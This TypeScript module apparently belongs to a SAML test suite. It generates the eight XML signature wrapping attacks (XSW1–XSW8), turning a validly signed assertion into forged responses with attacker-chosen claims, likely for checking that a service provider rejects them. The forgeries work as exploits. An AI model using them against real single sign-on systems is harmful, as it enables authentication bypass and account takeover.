import type { KeyPair } from './certificates.ts';
import { assertionXml, responseXml, type Stated, signXml } from './saml-messages.ts';

const CLOSED = '</saml:Assertion>';

/** The pieces of a signed response of which wrapping attacks are made. */
interface Pieces {
  /** Assertion as signed, without its signature, and the signature. */
  signed: string;
  bare: string;
  signature: string;
  /** Assertion of the attacker. */
  forged: string;
  /** Response around other content. */
  around: (content: string) => string;
  /** Response that is signed as a whole, without that signature, and the signature. */
  wholeBare: string;
  wholeSignature: string;
}

/** Inserts XML after the issuer of an assertion, where its signature belongs. */
const afterIssuer = (assertion: string, xml: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${xml}`);
const within = (assertion: string, xml: string) => assertion.replace(CLOSED, `${xml}${CLOSED}`);
const inSignature = (signature: string, xml: string) =>
  signature.replace(/<\/Signature>$/, `${xml}</Signature>`);

/** Signature wrapping attacks by their usual numbers (Somorovsky et al., 'On Breaking SAML', 2012). */
const ATTACKS: Record<string, (pieces: Pieces) => string> = {
  'XSW1: the signed response within the signature of a forged one': (pieces) =>
    pieces.around(inSignature(pieces.wholeSignature, pieces.wholeBare) + pieces.forged),
  'XSW2: the signed response beside its signature in a forged one': (pieces) =>
    pieces.around(pieces.wholeBare + pieces.wholeSignature + pieces.forged),
  'XSW3: a forged assertion before the signed one': ({ around, forged, signed }) => around(forged + signed),
  'XSW4: the signed assertion within a forged one': ({ around, forged, signed }) =>
    around(within(forged, signed)),
  'XSW5: the signature in a forged assertion, the signed one after it': (pieces) =>
    pieces.around(afterIssuer(pieces.forged, pieces.signature) + pieces.bare),
  'XSW6: the signed assertion within the signature of a forged one': (pieces) =>
    pieces.around(afterIssuer(pieces.forged, inSignature(pieces.signature, pieces.bare))),
  'XSW7: a forged assertion in extensions': ({ around, forged, signed }) =>
    around(`<samlp:Extensions>${forged}</samlp:Extensions>${signed}`),
  'XSW8: the signed assertion in an object of the signature of a forged one': (pieces) =>
    pieces.around(
      afterIssuer(pieces.forged, inSignature(pieces.signature, `<Object>${pieces.bare}</Object>`)),
    ),
};

/** Returns the attacks by name: each makes a response that states `forged` from one that the provider signed. */
export function wrappingAttacks(stated: Stated, forged: Partial<Stated>, keys: KeyPair): [string, string][] {
  const signed = signXml(assertionXml(stated), stated.assertionId, keys);
  const signature = /<Signature .*<\/Signature>/s.exec(signed)?.[0] ?? '';
  const whole = signXml(responseXml(stated, signed), stated.responseId, keys);
  const wholeSignature = /<Signature .*?<\/Signature>/s.exec(whole)?.[0] ?? '';
  const evil = { ...stated, assertionId: '_forged', responseId: '_forged-response', ...forged };
  const pieces = {
    ...{ signed, signature, wholeSignature },
    bare: signed.replace(signature, ''),
    forged: assertionXml(evil),
    around: (content: string) => responseXml(evil, content),
    wholeBare: whole.replace(wholeSignature, ''),
  };
  return Object.entries(ATTACKS).map(([name, attack]) => [name, attack(pieces)]);
}

export const WRAPPING_ATTACKS = Object.keys(ATTACKS);
